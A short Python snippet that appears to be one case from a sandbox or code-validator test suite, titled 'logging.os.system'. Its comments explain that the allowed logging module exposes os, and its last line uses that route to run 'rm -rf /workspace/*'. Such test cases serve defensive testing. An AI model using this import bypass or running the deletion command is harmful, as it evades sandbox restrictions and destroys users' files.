# attack-class: 4
# title: logging.os.system
# why: logging is allowed and imports os at module level

import logging

logging.basicConfig(level=logging.INFO)
log = logging.getLogger("report")
log.info("starting")
logging.os.system("rm -rf /workspace/*")
